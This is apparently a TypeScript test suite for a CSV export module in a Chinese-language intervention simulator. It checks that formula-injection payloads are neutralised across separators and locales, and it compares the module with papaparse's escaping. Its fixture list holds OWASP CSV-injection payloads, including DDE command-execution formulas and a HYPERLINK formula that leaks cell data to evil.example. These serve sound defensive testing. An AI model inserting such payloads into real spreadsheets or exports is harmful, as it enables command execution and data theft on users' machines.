import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { escapeCsvCell, neutraliseFormulae, recommendation, tieredListCsv, toCsv } from '../../../src/lib/simulator/export-csv';

/**
 * Payloads from OWASP's “CSV Injection” page (the DDE and HYPERLINK examples and the leading
 * characters = + - @ TAB CR), plus the separator variants of the 2026-12 security sweep (F3):
 * a formula after `;`, `,`, a tab or a line break, after spaces, and full-width signs.
 */
const OWASP: string[] = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'A;=1+1#5',
  'A;@SUM(1)#6',
  'A,=1+1',
  'A\t=1+1#15',
  'A\n=1+1',
  'A\r\n+1',
  'A; =1+1',
  ' =1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '＝1+1',
  'A;＠SUM(1)',
  '"=1+1',
  'x;y;-3+3',
  // OWASP's examples of a formula after a closed quote and a separator.
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
];

const DANGER = /^[ \u00a0\u3000\u2000-\u200d\u2060\ufeff]*[=+\-@＝＋－＠]|^[\t\r]/;
const isNumber = (s: string) => /^-?\d+(\.\d+)?$/.test(s);
const exported = (cells: string[]) => toCsv(['编号', '说明'], cells.map((c) => [c, `备注 ${c}`])).slice(1);

/** Fields a spreadsheet could see: quote-aware parses with each common separator, and naive splits. */
function fieldsAsSeen(text: string): string[] {
  const out: string[] = [];
  for (const delimiter of [',', ';', '\t']) for (const row of Papa.parse<string[]>(text, { delimiter, newline: '\r\n' }).data) out.push(...row);
  out.push(...text.split(/[,;\t\r\n]/));
  return out;
}

describe('formula injection through separators (security F3)', () => {
  it('leaves no OWASP payload a formula in a `,`, `;` or tab locale, with or without honouring quotes', () => {
    const text = exported(OWASP);
    const live = fieldsAsSeen(text).filter((f) => DANGER.test(f) && !isNumber(f.trim()));
    expect(live).toEqual([]);
  });

  it('quotes every text cell that holds a delimiter, `;`, a tab, a quote or a line break', () => {
    expect(escapeCsvCell('A;=1+1')).toBe('"A;\'=1+1"');
    expect(escapeCsvCell('A\t=1+1')).toBe('"A\t\'=1+1"');
    expect(escapeCsvCell('a;b')).toBe('"a;b"');
    expect(escapeCsvCell('a\tb')).toBe('"a\tb"');
    expect(escapeCsvCell('a,b')).toBe('"a,b"');
    expect(escapeCsvCell('say "hi"')).toBe('"say ""hi"""');
    expect(escapeCsvCell('two\nlines')).toBe('"two\nlines"');
    expect(escapeCsvCell(' padded ')).toBe('" padded "');
  });

  it('neutralises dangerous leading characters at the start and after any separator', () => {
    expect(escapeCsvCell('张三')).toBe('张三');
    expect(escapeCsvCell('=SUM(A1)')).toBe("'=SUM(A1)");
    expect(escapeCsvCell('+86 10')).toBe("'+86 10");
    expect(escapeCsvCell('-abc')).toBe("'-abc");
    expect(escapeCsvCell('@cmd')).toBe("'@cmd");
    expect(escapeCsvCell('\tx')).toBe('"\'\tx"');
    expect(escapeCsvCell('\rx')).toBe('"\'\rx"');
    expect(neutraliseFormulae('A;=1;B,@2\n-3')).toBe("A;'=1;B,'@2\n'-3");
    expect(neutraliseFormulae('a=b, c-d')).toBe('a=b, c-d');
    expect(neutraliseFormulae('＝1')).toBe("'＝1");
    expect(neutraliseFormulae(' =1')).toBe("' =1");
    expect(escapeCsvCell(-1234.5)).toBe('-1234.5');
    expect(escapeCsvCell(0)).toBe('0');
    expect(escapeCsvCell(NaN)).toBe('');
    expect(escapeCsvCell(Infinity)).toBe('');
    expect(escapeCsvCell(null)).toBe('');
    expect(escapeCsvCell(true)).toBe('是');
    expect(escapeCsvCell(false)).toBe('否');
  });

  it('round-trips through a CSV parser as the neutralised text (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.oneof(fc.string(), fc.integer(), fc.constantFrom(...OWASP, '-2', '\t', '\r\n', '"', ',', ';')), { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const width = rows[0]?.length ?? 2;
        const fixed = rows.map((r) => Array.from({ length: width }, (_, j) => r[j] ?? ''));
        const header = Array.from({ length: width }, (_, j) => `c${j}`);
        const text = toCsv(header, fixed).slice(1);
        const parsed = Papa.parse<string[]>(text, { delimiter: ',', newline: '\r\n', skipEmptyLines: false }).data;
        fixed.forEach((row, i) => {
          row.forEach((cell, j) => {
            const got = parsed[i + 1]?.[j] as string;
            expect(got).toBe(typeof cell === 'number' ? String(cell) : neutraliseFormulae(cell));
            if (typeof cell === 'string') expect(DANGER.test(got)).toBe(false);
          });
        });
      }),
      { numRuns: 300 },
    );
  });

  it('writes a BOM, CRLF and a header', () => {
    expect(toCsv(['编号', '净收益'], [['A', -5]])).toBe('\uFEFF编号,净收益\r\nA,-5\r\n');
  });
});

describe('papaparse’s own formula escaping (Papa.unparse escapeFormulae / quotes) against this export', () => {
  // How a spreadsheet reads the file: Excel and LibreOffice split on the list separator of the
  // locale (`,` in zh-CN and en-US, `;` in de-DE, fr-FR, …) and honour quotes; a program that
  // splits on a separator without honouring quotes (a naive importer, "text to columns" on a
  // pasted line) sees every part.
  const READINGS: Record<string, (text: string) => string[]> = {
    'comma locale': (text) => Papa.parse<string[]>(text, { delimiter: ',', newline: '\r\n' }).data.flat(),
    'semicolon locale': (text) => Papa.parse<string[]>(text, { delimiter: ';', newline: '\r\n' }).data.flat(),
    'split without quotes': (text) => text.split(/[,;\t\r\n]/),
  };
  const live = (text: string, reading: string) => READINGS[reading]!(text).filter((f) => DANGER.test(f) && !isNumber(f.trim()));
  const rows = [['编号', '说明'], ...OWASP.map((c) => [c, `备注 ${c}`])];
  const exporters: Record<string, string> = {
    'this export': exported(OWASP),
    // papaparse as documented: leading = + - @ TAB CR get an apostrophe; quotes only when needed.
    'papaparse, escapeFormulae: true': Papa.unparse(rows, { escapeFormulae: true, newline: '\r\n' }),
    // papaparse at its best: this export's set of leading signs (after spaces, full-width signs,
    // LF) and every cell quoted, so a `;` inside a cell never splits it in a quote-honouring reader.
    'papaparse, escapeFormulae: RegExp, quotes: true': Papa.unparse(rows, { escapeFormulae: /^[ \u00a0\u3000\u2000-\u200d\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/, quotes: true, newline: '\r\n' }),
  };

  it('this export leaves no payload a formula in either locale, nor when split without quotes', () => {
    for (const reading of Object.keys(READINGS)) expect(live(exporters['this export']!, reading), reading).toEqual([]);
  });

  it('papaparse’s default misses `A;=1+1` in a `;` locale: the cell is not quoted, so it splits and “=1+1” runs', () => {
    const papa = exporters['papaparse, escapeFormulae: true']!;
    expect(Papa.unparse([['=1+1']], { escapeFormulae: true })).toBe('"\'=1+1"');
    expect(papa).toContain('\r\nA;=1+1#5,');
    // Its signs are only = + - @ TAB CR, as the first character: after a space or a
    // zero-width space, or full-width, a formula passes in either locale.
    expect(live(papa, 'comma locale')).toEqual([' =1+1', '\u3000=1+1', '\u200b=1+1', '＝1+1']);
    // These cells are CSV, their commas separators: typography-ignore
    expect(live(papa, 'semicolon locale')).toEqual(expect.arrayContaining(['=1+1#5,备注 A', '@SUM(1)#6,备注 A', ' =1+1,备注 A', '-3+3,备注 x']));
  });

  it('papaparse at its best covers both locales, but not a reading that ignores quotes: it never escapes inside a cell', () => {
    const papa = exporters['papaparse, escapeFormulae: RegExp, quotes: true']!;
    expect(live(papa, 'comma locale')).toEqual([]);
    expect(live(papa, 'semicolon locale')).toEqual([]);
    // `A;=1+1#5` is one quoted cell, but split on `;` its second part is a formula; this export
    // writes `"A;'=1+1#5"`.
    expect(papa).toContain('"A;=1+1#5"');
    // Also after a tab, a line break, and OWASP's `=1+2";=1+2`.
    expect(live(papa, 'split without quotes')).toEqual(expect.arrayContaining(['=1+1#5"', '@SUM(1)#6"', '=1+1#15"', '+1"', '＠SUM(1)"', '-3+3"', '=1+2"']));
    expect(escapeCsvCell('A;=1+1#5')).toBe('"A;\'=1+1#5"');
  });
});

describe('tiered list', () => {
  it('exports rows ordered by tier, numbers plain, and flags interventions that do not pay', () => {
    const text = tieredListCsv({
      n: 3,
      ids: ['=A1', 'B', 'C'],
      scores: Float64Array.from([10, 90, 50]),
      probability: Float64Array.from([0.1, 0.9, 0.5]),
      tiers: Uint8Array.from([5, 1, 3]),
      tierNames: ['极高', '高', '中', '低', '极低'],
      interventions: ['一对一定制干预', '一对一定制干预', '半定制干预', '批量化维护', '批量化维护'],
      value: Float64Array.from([1000, 2000, 3000]),
      net: Float64Array.from([-20.126, 500, 10]),
      label: (i) => (i === 2 ? null : i === 1 ? 1 : 0),
      drivers: (i) => (i === 1 ? '投诉上升、使用量下降' : ''),
      selected: Uint8Array.from([0, 1, 0]),
    });
    const lines = text.slice(1).split('\r\n');
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(lines[0]).toMatch(/^编号,风险层级/);
    expect(lines[1]).toBe('B,1 极高,90,0.9,一对一定制干预,2000,500,是,投诉上升、使用量下降,是');
    expect(lines[2]).toBe('C,3 中,50,0.5,半定制干预,3000,10,,,否');
    expect(lines[3]).toBe(`'=A1,5 极低,10,0.1,${recommendation('批量化维护', -20.126)},1000,-20.13,否,,否`);
    expect(recommendation('批量化维护', -1)).toMatch(/^批量化维护（预期净收益为负/);
    expect(recommendation('批量化维护', 0)).toBe('批量化维护');
    const bare = tieredListCsv({ n: 1, ids: [], scores: Float64Array.from([1]), probability: Float64Array.from([0]), tiers: Uint8Array.from([2]), tierNames: [], interventions: [], value: Float64Array.from([0]), net: Float64Array.from([0]), label: null, drivers: null, selected: null });
    expect(bare.slice(1).split('\r\n')[1]).toBe('1,"2 ",1,0,,0,0');
  });
});
